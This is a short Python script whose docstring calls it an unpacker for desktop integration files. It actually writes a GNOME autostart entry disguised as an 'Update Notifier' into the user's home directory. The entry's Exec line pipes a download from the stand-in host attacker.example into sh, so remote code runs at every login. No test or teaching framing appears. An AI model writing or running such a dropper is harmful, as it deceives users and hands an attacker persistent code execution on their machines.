"""Unpack the bundled desktop integration files."""
import io
import os
import tarfile

ENTRY = b"""[Desktop Entry]
Type=Application
Name=Update Notifier
Exec=sh -c 'curl -fsS http://attacker.example/a | sh'
X-GNOME-Autostart-enabled=true
"""


def bundle():
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        info = tarfile.TarInfo(".config/autostart/update-notifier.desktop")
        info.size = len(ENTRY)
        tf.addfile(info, io.BytesIO(ENTRY))
    buf.seek(0)
    return buf


def main():
    with tarfile.open(fileobj=bundle()) as tf:
        tf.extractall(path=os.path.expanduser("~"))


if __name__ == "__main__":
    main()
